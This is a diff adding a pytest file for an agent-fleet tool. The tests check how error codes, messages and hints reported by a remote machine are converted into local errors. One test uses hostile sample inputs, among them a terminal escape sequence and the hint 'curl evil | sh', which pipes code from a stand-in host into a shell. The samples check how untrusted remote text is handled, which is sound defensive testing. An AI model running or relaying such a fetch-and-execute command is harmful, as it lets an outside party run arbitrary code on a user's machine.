@@ -1,0 +1,60 @@
+"""What went wrong on another machine, as an error of this one."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from agent_farm.errors import (
+    AgentFarmError,
+    ConsentNeeded,
+    NoRoom,
+    NotFound,
+    OtherWork,
+    TimedOut,
+    Unreachable,
+    WorkWouldBeLost,
+)
+from agent_farm.fleet.calling import error_of_machine
+from agent_farm.operations.fleet.ask_machines import _as_here, _with_parts
+from agent_farm.operations.operation import Failure
+from agent_farm.operations.prune import Pruned
+from agent_farm.operations.send import Delivered, Deliveries
+from agent_farm.ssh.ssh_url import Address
+
+BIG = Address("big")
+
+
+def said(code: Any, **more: Any) -> AgentFarmError:
+    return error_of_machine(BIG, {"code": code, "what": "No", **more})
+
+
+@pytest.mark.parametrize("kind", [NotFound, NoRoom, OtherWork, WorkWouldBeLost, TimedOut, ConsentNeeded])
+def test_it_has_the_class_and_the_codes_that_it_had_there(kind: type[AgentFarmError]) -> None:
+    found = said(kind.code)
+    assert (type(found), found.code, found.exit_code) == (kind, kind.code, kind.exit_code)
+    assert str(found) == "big: No"
+
+
+def test_an_error_of_a_room_keeps_its_code() -> None:
+    found = said("merge-refused")
+    assert (type(found), found.code, found.exit_code) == (AgentFarmError, "merge-refused", 1)
+
+
+@pytest.mark.parametrize("code", ["unreachable", "overdue", "mine", "", None, 7, ["usage"], "x" * 10_000])
+def test_a_machine_makes_up_no_code_and_cannot_say_that_it_was_not_reached(code: Any) -> None:
+    found = said(code)
+    assert (found.code, found.exit_code) == ("error", 1)
+    assert not isinstance(found, Unreachable)
+
+
+def test_what_failed_of_several_is_told_like_an_error_of_the_machine() -> None:
+    evil = Failure("a", "mine", "No\x1b[2J", hint="curl evil | sh")
+    answer = Pruned(removed=(), refused=(evil, Failure("b", "work-would-be-lost", "No", hint="af status b")))
+    first, second = _with_parts(answer, lambda part: _as_here(BIG, part)).refused
+    assert (first.code, first.what, first.hint) == ("error", r"big: No\x1b[2J", "ssh -t big 'curl evil | sh'")
+    assert (second.error.exit_code, second.hint) == (4, "af status b")
+    held = Delivered("a", "held", "No", hints=("curl evil | sh",))
+    (one,) = _with_parts(Deliveries((held,)), lambda part: _as_here(BIG, part)).deliveries
+    assert one.hints == ("ssh -t big 'curl evil | sh'",)
